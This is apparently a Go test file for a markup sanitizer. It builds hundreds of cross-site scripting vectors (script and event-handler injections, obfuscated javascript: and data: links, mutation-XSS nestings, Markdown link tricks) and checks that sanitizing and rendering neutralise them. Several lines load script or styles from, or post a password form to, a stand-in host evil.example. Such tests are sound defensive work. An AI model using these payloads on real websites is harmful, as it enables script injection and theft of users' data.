package markup

import (
	"fmt"
	"strings"
	"testing"
)

// attacks are payloads that run script, or would like to, where a page lets
// them: by an event, an address, a raw element, a form, a style, an import.
func attacks() []string {
	attacks := []string{
		`<script>alert(1)</script>`, `<script src=//evil.example/x.js></script>`, `<script/src=data:,alert(1)></script>`,
		`<ScRiPt>alert(1)</sCrIpT>`, `<script>alert(1)`, `<scr<script>ipt>alert(1)</scr</script>ipt>`, `<script	x>alert(1)</script	y>`,
		`<iframe src=javascript:alert(1)></iframe>`, `<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>`,
		`<object data=javascript:alert(1)></object>`, `<embed src=//evil.example/x.swf>`, `<applet code=X></applet>`,
		`<base href=//evil.example/>`, `<meta http-equiv=refresh content="0;url=javascript:alert(1)">`,
		`<link rel=stylesheet href=//evil.example/x.css>`, `<link rel=import href=//evil.example/x>`,
		`<style>@import'//evil.example/x.css';</style>`, `<style>*{background:url(javascript:alert(1))}</style>`,
		`<form action=//evil.example><input name=password><button>Go</button></form>`, `<button formaction=javascript:alert(1)>a</button>`,
		`<isindex action=javascript:alert(1) type=image>`, `<keygen autofocus onfocus=alert(1)>`,
		`<frameset><frame src=javascript:alert(1)></frameset>`, `<portal src=//evil.example></portal>`, `<marquee onstart=alert(1)>a</marquee>`,
		`<bgsound src=javascript:alert(1)>`, `<layer src=//evil.example></layer>`, `<xml id=x><i><b>&lt;img src=x onerror=alert(1)&gt;</b></i></xml>`,
		`<div style="width:expression(alert(1))">a</div>`, `<p style="-moz-binding:url(//evil.example/x.xml#x)">a</p>`,
		`<div style=position:fixed;inset:0;z-index:9999>a</div>`, `<p class="flash modal app" id=content name=location>a</p>`,
		`<a href=https://x.example id=getElementById name=cookie>a</a>`, `<form id=document><input name=body></form>`,
		`<p is=x-evil slot=x part=y exportparts=z>a</p>`, `<x-evil onclick=alert(1)>a</x-evil>`, `<template shadowrootmode=open><script>alert(1)</script></template>`,
		`<a href=https://x.example ping=//evil.example download target=_top>a</a>`, `<img src=//evil.example/pixel.gif width=1 height=1>`,
		`<picture><source srcset=//evil.example/x.png></picture>`, `<video poster=//evil.example/x.png><source onerror=alert(1)></video>`,
		`<input type=image src=x onerror=alert(1)>`, `<table background=javascript:alert(1)><tr><td>a</td></tr></table>`, `<body onload=alert(1)>`,
		`<blockquote cite=javascript:alert(1)>a</blockquote>`, `<del cite=javascript:alert(1) datetime=x>a</del>`, `<ol start="1 onclick=alert(1)"><li value=x>a</ol>`,
		`<a href="https://x.example" rel="me opener">a</a>`, `<a href="https://good.example@evil.example">a</a>`, `<a href="https:\\evil.example">a</a>`,
		`<a href="//evil.example">a</a>`, `<a href="/settings/delete">a</a>`, `<a href="?x">a</a>`, `<a href="#x">a</a>`, `<a href="https:evil">a</a>`,
		`<a xlink:href=javascript:alert(1)>a</a>`, `<a/href=javascript:alert(1)>a</a>`, `<a href=https://x.example href=javascript:alert(1)>a</a>`,
		`<area href=javascript:alert(1)>`, `<svg><a xlink:href=javascript:alert(1)><text y=9>a</text></a></svg>`, `<math href=javascript:alert(1)>a</math>`,
		`<svg><animate attributeName=href values=javascript:alert(1) /></svg>`, `<svg><set attributeName=onload to=alert(1) /></svg>`,
		`<svg><use href="data:image/svg+xml,<svg id=x><script>alert(1)</script></svg>#x"/></svg>`, `<svg><foreignObject><body onload=alert(1)></foreignObject></svg>`,
		`<svg/onload=alert(1)>`, `<svg><script xlink:href=data:,alert(1) /></svg>`, `<svg><handler xmlns:ev=x ev:event=load>alert(1)</handler></svg>`,
		`<details open ontoggle=alert(1)>a</details>`, `<dialog open oncancel=alert(1)>a</dialog>`, `<p contenteditable autofocus onfocus=alert(1)>a</p>`,
	}
	for _, event := range strings.Fields("onerror onload onclick onmouseover onfocus onanimationstart onpointerrawupdate onbeforetoggle ONCLICK oNcLiCk") {
		for _, tag := range []string{"img src=x", "p", "a href=https://x.example", "span class=mention", "svg", "video"} {
			attacks = append(attacks, fmt.Sprintf(`<%s %s=alert(1)>a`, tag, event), fmt.Sprintf(`<%s/%s="alert(1)"//>a`, tag, event))
		}
	}
	return append(attacks, addresses()...)
}

// addresses are links of schemes that run script or carry a document, each
// spelled in the ways that have deceived a cleaner.
func addresses() []string {
	var links []string
	for _, address := range []string{"javascript:alert(1)", "vbscript:msgbox(1)", "data:text/html,<script>alert(1)</script>", "livescript:x", "blob:x", "file:///etc/passwd", "view-source:x", "feed:javascript:alert(1)", "jar:https://x.example!/x"} {
		scheme, rest, _ := strings.Cut(address, ":")
		for _, spelled := range []string{
			address, strings.ToUpper(scheme) + ":" + rest, " " + address, "\t" + address, "\n" + address, "\x00" + address, "\x01" + address, "\u00a0" + address,
			scheme[:2] + "\t" + scheme[2:] + ":" + rest, scheme[:2] + "\n" + scheme[2:] + ":" + rest, scheme[:2] + "\x00" + scheme[2:] + ":" + rest,
			scheme[:2] + "&#9;" + scheme[2:] + ":" + rest, scheme[:2] + "&Tab;" + scheme[2:] + ":" + rest, scheme[:2] + "&NewLine;" + scheme[2:] + ":" + rest,
			scheme + "&colon;" + rest, scheme + "&#58;" + rest, scheme + "&#x3a;" + rest, scheme + "&#0000058" + rest, scheme + "%3a" + rest, scheme + "\t:" + rest,
			fmt.Sprintf("&#%d;%s:%s", scheme[0], scheme[1:], rest), fmt.Sprintf("&#x%x;%s:%s", scheme[0], scheme[1:], rest), "\\" + scheme + ":" + rest,
			"https://x.example/\"onmouseover=" + rest, scheme + "://%0a" + rest, scheme + ":/*https://x.example/*/" + rest,
		} {
			links = append(links, `<a href="`+strings.ReplaceAll(spelled, `"`, "&quot;")+`">a</a>`, `<a href='`+spelled+`'>a</a>`)
		}
	}
	return links
}

// mutations are texts that are harmless as first read and change when they are
// written and read again (mXSS).
func mutations() []string {
	const hit = `<img src=x onerror=alert(1)>`
	all := []string{
		`<noscript><p title="</noscript>` + hit + `">`, `<noembed><p title="</noembed>` + hit + `">`, `<noframes><p title="</noframes>` + hit + `">`,
		`<svg></p><style><a id="</style>` + hit + `">`, `<svg><style><!--</style>` + hit + `-->`, `<math><mi><table><mglyph><style><!--</style>` + hit,
		`<form><math><mtext></form><form><mglyph><style></math>` + hit, `<math><mtext><table><mglyph><style><math>` + hit,
		`<svg><desc><noscript></desc><s><a title="</noscript>` + hit + `">`, `<math><annotation-xml encoding="text/html"><style>` + hit + `</style></annotation-xml></math>`,
		`<select><iframe></select>` + hit, `<select><style></select>` + hit + `</style>`, `<select><template><style><!--</style><a rel="--></style></template></select>` + hit + `">`,
		`<table><td><style></table>` + hit, `<table><a href="https://x.example"><caption>` + hit, `<title><a title="</title>` + hit + `">`,
		`<textarea><a title="</textarea>` + hit + `">`, `<xmp><p title="</xmp>` + hit + `">`, `<plaintext>` + hit, `<listing>&lt;img onerror=alert(1)&gt;</listing>`,
		`<!--><script>alert(1)</script>-->`, `<!---><script>alert(1)</script>-->`, `<!--!><script>alert(1)</script>-->`, `<!-- --!>` + hit + `-->`, `<!-->` + hit,
		`<![CDATA[><script>alert(1)</script>]]>`, `<svg><![CDATA[</svg>` + hit + `]]>`, `<?xml version="1.0"?>` + hit, `<!DOCTYPE x [<!ENTITY a "<script>alert(1)</script>">]>&a;`, `</ ` + hit + `>`, `<//` + hit,
		`<a title="` + "`" + `onmouseover=alert(1) ` + "`" + `">a</a>`, `<p title="a` + "`" + ` ` + hit + `">`, `<a href="https://x.example/&quot;&gt;` + strings.ReplaceAll(hit, "<", "&lt;") + `">a</a>`,
		`&lt;img src=x onerror=alert(1)&gt;`, `&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;`, `&#60;script&#62;alert(1)&#60;/script&#62;`, `<p>&lt;/p>` + hit,
		`<b <script>alert(1)</script>0`, `<p a=` + "\x0b" + `b onclick=alert(1)>`, "<\x00script>alert(1)</script>", "<scr\x00ipt>alert(1)</scr\x00ipt>", "<img\x0csrc=x\x0conerror=alert(1)>", `<ſcript>alert(1)</ſcript>`, `<İmg src=x onerror=alert(1)>`, "\xfe\xff<script>alert(1)</script>", "\xc0\xbcscript\xc0\xbealert(1)", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
		`<p><p></p></p><a><a></a></a>` + hit, `<b><p></b>` + hit + `</p>`, `<a href=https://x.example><b><a href=https://y.example><b><p>` + hit, `<ul><b><li></ul></b>` + hit, "<pre>\n\n<b>\n</b>\n" + hit + "</pre>",
	}
	for _, outer := range strings.Fields("svg math") {
		for _, inner := range strings.Fields("title desc mtext mi mo foreignObject annotation-xml style script p br table") {
			for _, raw := range strings.Fields("style noscript title textarea xmp iframe template") {
				all = append(all, fmt.Sprintf(`<%s><%s><%s><a title="</%s>%s">`, outer, inner, raw, raw, hit))
			}
		}
	}
	return all
}

// vectors puts every attack where an attacker can put it.
func vectors() []string {
	var all []string
	for _, context := range []string{"%s", "<p>%s</p>", `<a href="https://x.example/">%s</a>`, "<ul><li>%s", "<pre><code>%s</code></pre>", `<span class="invisible">%s`, "</p></div>%s", "<svg>%s</svg>", "<!-- -->%s<!--", `"><p title="%s`} {
		for _, attack := range attacks() {
			all = append(all, fmt.Sprintf(strings.ReplaceAll(context, "%s", "%[1]s"), attack))
		}
	}
	return append(all, mutations()...)
}

// TestWEB01 runs every vector through all that strangers' words pass on their
// way to a page: as content, field, name and summary.
func TestWEB01(t *testing.T) {
	all := vectors()
	if len(all) < 500 {
		t.Fatalf("only %d vectors", len(all))
	}
	for _, in := range all {
		checkSanitized(t, in)
		for _, target := range linkTargets(parseTree(t, Sanitize(in))) {
			if !strings.HasPrefix(target, "https://x.example") && !strings.HasPrefix(target, "https://y.example") {
				t.Errorf("%q links to %q", in, target)
			}
		}
		name := EmojifyName(PlainText(in), map[string]string{"x": "/e"})
		if nodes := parseTree(t, name); len(nodes) > 1 {
			t.Errorf("the name %q became %q", in, name)
		}
	}
}

// TestVectorsAsMarkdown lets the owner paste every vector.
func TestVectorsAsMarkdown(t *testing.T) {
	for _, in := range append(vectors(), markdownAttacks()...) {
		checkRendered(t, in)
		checkSafe(t, in, FieldHTML(in))
	}
}

// markdownAttacks are attacks in Markdown's own spelling (WEB-17).
func markdownAttacks() []string {
	all := []string{
		`http://x""onmouseover=alert(1)`, `https://x.example/"onclick="alert(1)`, `javascript&colon;alert(1)`, `https://x.example/<script>`,
		"```\"onclick=alert(1)\nx\n```", "```js\"><script>alert(1)</script>\nx\n```", "`<script>`", `\<script>alert(1)\</script>`,
		`# <script>alert(1)</script> {#id onclick=alert(1)}`, `![x](x"onerror="alert(1))`, `[x]: javascript:alert(1)` + "\n\n[x]", `[a](<javascript:alert(1)>)`,
		`[a](https://x.example "onclick=alert(1)")`, `[a](https://x.example 'x" onclick=alert(1)')`, `<https://x.example/"onclick=alert(1)>`,
	}
	for _, link := range []string{"[a](%s)", "![a](%s)", "<%s>", "%s", "[a][1]\n\n[1]: %s"} {
		for _, address := range []string{"javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "javascript&colon;alert(1)", "javascript&#58;alert(1)", `javascript\:alert(1)`, "data:text/html,x", "vbscript:x", "//evil.example", "/logout", "https:logout", `https:\\evil.example`, "https://good.example@evil.example/"} {
			all = append(all, fmt.Sprintf(link, address))
		}
	}
	return all
}
